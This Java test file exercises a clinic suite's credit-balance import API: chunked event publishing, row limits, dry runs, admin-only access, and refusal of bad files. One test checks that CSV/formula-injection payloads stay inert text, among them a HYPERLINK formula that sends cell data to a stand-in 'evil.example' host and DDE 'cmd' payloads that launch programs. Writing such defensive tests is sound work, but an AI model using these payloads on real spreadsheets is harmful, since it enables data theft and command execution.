package com.clinicsuite.imports.credit.rest;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;

import com.clinicsuite.events.EventCatalog;
import com.clinicsuite.events.Topics;
import com.clinicsuite.events.credit.CreditImportResult;
import com.clinicsuite.imports.credit.parse.CreditFixtures;
import com.clinicsuite.imports.credit.service.CreditImportWatchdog;
import com.clinicsuite.testkit.EventPublisher;
import com.clinicsuite.testkit.SuiteInfrastructure;
import com.clinicsuite.testkit.TestTokens;
import com.clinicsuite.testkit.TopicReader;
import com.clinicsuite.testkit.fixtures.FixtureJson;
import com.clinicsuite.vocabulary.ImportStatus;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.arc.Arc;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.vertx.VertxContextSupport;
import io.restassured.path.json.JsonPath;
import io.restassured.specification.RequestSpecification;
import java.io.File;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.function.Predicate;
import org.junit.jupiter.api.Test;

@QuarkusTest
@WithTestResource(SuiteInfrastructure.class)
class CreditImportHttpTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration WAIT = Duration.ofSeconds(60);

    @Test
    void importPublishesChunksAndCompletesWhenCreditBalanceServiceReports() throws Exception {
        String id = upload(CreditFixtures.file("main.xlsx"), "replace", false)
                .statusCode(202)
                .body("status", equalTo("queued"))
                .extract()
                .path("import_id");

        JsonPath applying = awaitStatus(id, "applying");
        assertThat(applying.getString("kind")).isEqualTo("credit-balances");
        assertThat(applying.getString("filename")).isEqualTo("main.xlsx");
        assertThat(applying.getInt("rows_total")).isEqualTo(1353);
        assertThat(applying.getInt("rows_accepted")).isEqualTo(1353);
        assertThat(applying.getString("started_at")).isNotNull();
        assertThat(applying.getString("finished_at")).isNull();

        try (TopicReader reader = new TopicReader(Topics.IMPORTS_CREDIT_ROWS)) {
            List<TopicReader.Record> chunks = reader.await(2, keyed(id), WAIT);
            assertThat(chunks)
                    .hasSize(2)
                    .allSatisfy(r -> assertThat(r.ceType()).isEqualTo(EventCatalog.CREDIT_ROWS_CHUNK.type()));
            BigDecimal balance = BigDecimal.ZERO;
            int rows = 0;
            for (TopicReader.Record record : chunks) {
                JsonNode chunk = JSON.readTree(record.value());
                assertThat(chunk.get("mode").asText()).isEqualTo("replace");
                // published while the file was read: only the last chunk knows how many there are
                boolean last = chunk.get("chunk_index").asInt() == 1;
                assertThat(chunk.get("chunk_count").asInt()).isEqualTo(last ? 2 : 0);
                assertThat(chunk.get("total_rows").asInt()).isEqualTo(last ? 1353 : 0);
                assertThat(chunk.get("rows")).hasSize(last ? 353 : 1000);
                for (JsonNode row : chunk.get("rows")) {
                    balance =
                            balance.add(new BigDecimal(row.get("balance_amount").asText()));
                    rows++;
                    if (row.get("source_row").asInt() == 19) {
                        assertThat(row.get("client_code").asText()).isEqualTo("AD03C4403");
                        assertThat(row.get("phone_no").asText()).isEqualTo("7985349490");
                        assertThat(row.get("center").asText()).isEqualTo("Punjabi Bagh");
                        assertThat(row.get("package_amount").asText()).isEqualTo("45000.00");
                    }
                }
            }
            assertThat(rows).isEqualTo(1353);
            assertThat(balance).isEqualByComparingTo("21942400.57");
        }

        try (EventPublisher publisher = new EventPublisher()) {
            publisher.send(
                    EventCatalog.CREDIT_IMPORT_RESULT,
                    id,
                    new CreditImportResult(
                            id,
                            ImportStatus.COMPLETED,
                            1352,
                            1352,
                            0,
                            0,
                            List.of(new CreditImportResult.RowError(7, "client_code", "duplicate of row 5")),
                            null));
        }
        JsonPath done = awaitStatus(id, "completed");
        assertThat(done.getInt("rows_accepted")).isEqualTo(1352);
        assertThat(done.getInt("rows_rejected")).isEqualTo(1);
        assertThat(done.getList("errors.findAll { it.rejected }.row", Integer.class))
                .containsExactly(7);
        assertThat(done.getString("finished_at")).isNotNull();
    }

    @Test
    void aFileThatFailsAfterItsFirstChunkWentOutIsCalledOff() throws Exception {
        // 1,450 valid rows, over this profile's limit of 1,400: the first 1,000 are published before the reader
        // reaches row 1,401 and refuses the file
        Path csv = Files.createTempFile("too-many", ".csv");
        StringBuilder text = new StringBuilder("Client Code,Client Name,Phone No,Treatment Name,Center,"
                + "Package Amount,Amount Paid,Balance Amount,Sessions Paid,Sessions Consumed,Balance Sessions\n");
        for (int i = 0; i < 1450; i++) {
            text.append("TM")
                    .append(i)
                    .append(",Client ")
                    .append(i)
                    .append(",98110")
                    .append(10000 + i)
                    .append(",Botox,GK2,1000.00,400.00,600.00,5,1,4\n");
        }
        Files.writeString(csv, text);
        String id = upload(csv, "replace", false).statusCode(202).extract().path("import_id");

        JsonPath failed = awaitStatus(id, "failed");
        assertThat(failed.getList("errors.message", String.class))
                .anySatisfy(m -> assertThat(m).contains("more than 1400 data rows"));
        try (TopicReader reader = new TopicReader(Topics.IMPORTS_CREDIT_ROWS)) {
            List<TopicReader.Record> sent = reader.await(2, keyed(id), WAIT);
            assertThat(sent)
                    .extracting(TopicReader.Record::ceType)
                    .containsExactly(EventCatalog.CREDIT_ROWS_CHUNK.type(), EventCatalog.CREDIT_IMPORT_ABORTED.type());
            JsonNode chunk = JSON.readTree(sent.get(0).value());
            assertThat(chunk.get("chunk_count").asInt()).isZero();
            assertThat(chunk.get("rows")).hasSize(1000);
            assertThat(JSON.readTree(sent.get(1).value()).get("reason").asText())
                    .contains("more than 1400 data rows");
            // nothing else follows: no last chunk
            assertThat(reader.await(3, keyed(id), Duration.ofSeconds(2))).hasSize(2);
        }
    }

    @Test
    void failureReportedByCreditBalanceServiceFailsTheJob() {
        String id = upload(CreditFixtures.file("legacy.csv"), "upsert", false)
                .statusCode(202)
                .extract()
                .path("import_id");
        awaitStatus(id, "applying");

        try (EventPublisher publisher = new EventPublisher()) {
            publisher.send(
                    EventCatalog.CREDIT_IMPORT_RESULT,
                    id,
                    new CreditImportResult(id, ImportStatus.FAILED, 0, 0, 0, 0, List.of(), "database unavailable"));
        }
        JsonPath failed = awaitStatus(id, "failed");
        assertThat(failed.getString("mode")).isEqualTo("upsert");
        assertThat(failed.getList("errors.message", String.class))
                .anySatisfy(m -> assertThat(m).contains("could not apply").contains("database unavailable"));
    }

    @Test
    void dryRunValidatesAndReportsWithoutPublishing() throws Exception {
        String id = upload(CreditFixtures.file("messy.xlsx"), null, true)
                .statusCode(202)
                .extract()
                .path("import_id");

        JsonPath done = awaitStatus(id, "completed");
        assertThat(done.getBoolean("dry_run")).isTrue();
        assertThat(done.getInt("rows_total")).isEqualTo(161);
        assertThat(done.getInt("rows_accepted")).isEqualTo(161);
        assertThat(done.getInt("rows_rejected")).isZero();
        // the two invalid e-mail addresses are reported; their rows are imported without them
        assertThat(done.getList("errors.findAll { it.column == \"Email ID's\" }.row", Integer.class))
                .hasSize(2);
        assertThat(done.getList("errors.rejected", Boolean.class)).doesNotContain(true);

        try (Connection db = SuiteInfrastructure.jdbcConnection();
                PreparedStatement query =
                        db.prepareStatement("select count(*) from outbox_event where aggregate_key = ?")) {
            query.setString(1, id);
            try (ResultSet result = query.executeQuery()) {
                result.next();
                assertThat(result.getInt(1)).isZero();
            }
        }
    }

    @Test
    void rejectedRowsAreListedWithRowColumnAndReason() throws Exception {
        Path csv = Files.createTempFile("mixed", ".csv");
        Files.writeString(
                csv,
                "Client Code,Client Name,Phone No,Treatment Name,Center,Package Amount (₹),"
                        + "Amount Paid by the client,Balance Amount (₹),Prepaid / Gift Card Balance,Sessions Paid,"
                        + "Sessions Consumed,Balance Sessions,Email ID's\n"
                        + "ZZ01,Ann,9876543210,Peel,GK2,100,50,50,0,2,1,1,ann@x.com\n"
                        + "ZZ02,Bob,9876543210,Peel,Lajpat Nagar,100,50,50,0,2,1,1,\n");
        String id = upload(csv, "replace", true).statusCode(202).extract().path("import_id");

        JsonPath done = awaitStatus(id, "completed");
        assertThat(done.getInt("rows_accepted")).isEqualTo(1);
        assertThat(done.getInt("rows_rejected")).isEqualTo(1);
        assertThat(done.getInt("errors[0].row")).isEqualTo(3);
        assertThat(done.getString("errors[0].column")).isEqualTo("Center");
        assertThat(done.getString("errors[0].message"))
                .contains("not a known center")
                .contains("row not imported");
    }

    @Test
    void importsAreListedNewestFirst() {
        String first = upload(CreditFixtures.file("legacy.csv"), "replace", true)
                .statusCode(202)
                .extract()
                .path("import_id");
        String second = upload(CreditFixtures.file("legacy.xls"), "replace", true)
                .statusCode(202)
                .extract()
                .path("import_id");
        awaitStatus(second, "completed");

        List<String> ids = admin().get("/imports?limit=200")
                .then()
                .statusCode(200)
                .extract()
                .path("import_id");
        assertThat(ids).contains(first, second);
        assertThat(ids.indexOf(second)).isLessThan(ids.indexOf(first));
        admin().get("/imports/does-not-exist")
                .then()
                .statusCode(404)
                .body("detail", startsWith("Import does-not-exist"));
    }

    @Test
    void onlyAdminsImport() {
        given().auth()
                .oauth2(TestTokens.staff("GK2"))
                .multiPart("file", CreditFixtures.file("legacy.csv").toFile())
                .post("/credit-balances/import")
                .then()
                .statusCode(403);
        given().multiPart("file", CreditFixtures.file("legacy.csv").toFile())
                .post("/credit-balances/import")
                .then()
                .statusCode(401);
        given().auth().oauth2(TestTokens.staff("GK2")).get("/imports").then().statusCode(403);
        given().get("/imports").then().statusCode(401);
    }

    @Test
    void filesThatCannotBeImportedAreRefusedBeforeAJobExists() throws Exception {
        upload(CreditFixtures.file("bad/bad_truncated.xlsx"), null, false)
                .statusCode(422)
                .body("detail", startsWith("The workbook is damaged or incomplete"));
        upload(CreditFixtures.file("bad/bad_not_excel.xlsx"), null, false)
                .statusCode(415)
                .body("detail", startsWith("The file is named .xlsx but is not an Excel workbook"));
        upload(CreditFixtures.file("bad/bad_missing_client_code.xlsx"), null, false)
                .statusCode(422)
                .body("detail", startsWith("required column 'Client Code' missing"));
        Path truth = Files.writeString(
                Files.createTempFile("main", ".json"), FixtureJson.write(CreditFixtures.truth("main.xlsx")));
        upload(truth, null, false).statusCode(415);

        Path big = Files.createTempFile("big", ".csv");
        Files.write(big, new byte[3 << 20]);
        upload(big, null, false).statusCode(413).body("detail", startsWith("The file is larger than"));

        upload(CreditFixtures.file("legacy.csv"), "merge", false)
                .statusCode(422)
                .body("errors[0].field", equalTo("mode"))
                .body("detail", equalTo("mode: must be one of replace, upsert (default replace)"));
        admin().multiPart("mode", "replace")
                .post("/credit-balances/import")
                .then()
                .statusCode(400);
    }

    @Test
    void formulaPayloadsArriveAsInertText() throws Exception {
        String id = upload(CreditFixtures.file("bad/bad_formula_injection.xlsx"), null, false)
                .statusCode(202)
                .extract()
                .path("import_id");
        awaitStatus(id, "applying");
        try (TopicReader reader = new TopicReader(Topics.IMPORTS_CREDIT_ROWS)) {
            JsonNode chunk =
                    JSON.readTree(reader.await(1, keyed(id), WAIT).get(0).value());
            Set<String> names = new java.util.HashSet<>();
            chunk.get("rows").forEach(r -> names.add(r.get("client_name").asText()));
            assertThat(names)
                    .contains(
                            "=HYPERLINK(\"http://evil.example/steal?d=\"&C4,\"Click for refund\")",
                            "=cmd|' /C calc'!A0",
                            "+SUM(1+1)*cmd|' /C notepad'!A0",
                            "@SUM(1,1)");
        }
    }

    @Test
    void jobsAbandonedByAStoppedInstanceEndFailedAndLiveOnesAreKept() throws Throwable {
        String abandoned = UUID.randomUUID().toString();
        String elsewhere = UUID.randomUUID().toString();
        String heldHere = UUID.randomUUID().toString();
        try (Connection db = SuiteInfrastructure.jdbcConnection();
                PreparedStatement insert = db.prepareStatement(
                        "insert into credit_import_job (id, filename, mode, dry_run,"
                                + " status, created_at, started_at, heartbeat_at) values (?, 'sheet.xlsx', 'replace', false, ?,"
                                + " now() - interval '20 minutes', now() - interval '20 minutes', now() - (? * interval '1 minute'))")) {
            Object[][] jobs = {{abandoned, "parsing", 10}, {elsewhere, "queued", 0}, {heldHere, "parsing", 10}};
            for (Object[] job : jobs) {
                insert.setString(1, (String) job[0]);
                insert.setString(2, (String) job[1]);
                insert.setInt(3, (Integer) job[2]);
                insert.executeUpdate();
            }
        }
        CreditImportWatchdog watchdog =
                Arc.container().instance(CreditImportWatchdog.class).get();
        watchdog.hold(heldHere);
        try {
            VertxContextSupport.subscribeAndAwait(watchdog::heartbeat);
            int ended = VertxContextSupport.subscribeAndAwait(watchdog::failAbandoned);
            assertThat(ended).isGreaterThanOrEqualTo(1);
        } finally {
            watchdog.release(heldHere);
        }

        JsonPath failed = admin().get("/imports/" + abandoned)
                .then()
                .statusCode(200)
                .extract()
                .jsonPath();
        assertThat(failed.getString("status")).isEqualTo("failed");
        assertThat(failed.getString("finished_at")).isNotNull();
        assertThat(failed.getList("errors.message", String.class))
                .anySatisfy(m -> assertThat(m).contains("interrupted").contains("upload the file again"));
        // a job another instance renews, and one this instance holds (its heartbeat was just renewed), stay as they are
        admin().get("/imports/" + elsewhere).then().statusCode(200).body("status", equalTo("queued"));
        admin().get("/imports/" + heldHere).then().statusCode(200).body("status", equalTo("parsing"));
    }

    private static RequestSpecification admin() {
        return given().auth().oauth2(TestTokens.admin());
    }

    private static io.restassured.response.ValidatableResponse upload(Path file, String mode, boolean dryRun) {
        RequestSpecification request = admin().multiPart("file", new File(file.toString()));
        if (mode != null) {
            request.multiPart("mode", mode);
        }
        if (dryRun) {
            request.multiPart("dry_run", "true");
        }
        return request.post("/credit-balances/import").then();
    }

    private static JsonPath awaitStatus(String id, String status) {
        long deadline = System.nanoTime() + WAIT.toNanos();
        JsonPath job;
        do {
            job = admin().get("/imports/" + id).then().statusCode(200).extract().jsonPath();
            if (status.equals(job.getString("status"))) {
                return job;
            }
            assertThat(job.getString("status"))
                    .as("import %s: %s", id, job.prettify())
                    .isNotEqualTo("failed");
            sleep();
        } while (System.nanoTime() < deadline);
        throw new AssertionError("import " + id + " did not reach " + status + ": " + job.prettify());
    }

    private static Predicate<TopicReader.Record> keyed(String id) {
        return r -> id.equals(r.key());
    }

    private static void sleep() {
        try {
            Thread.sleep(100);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
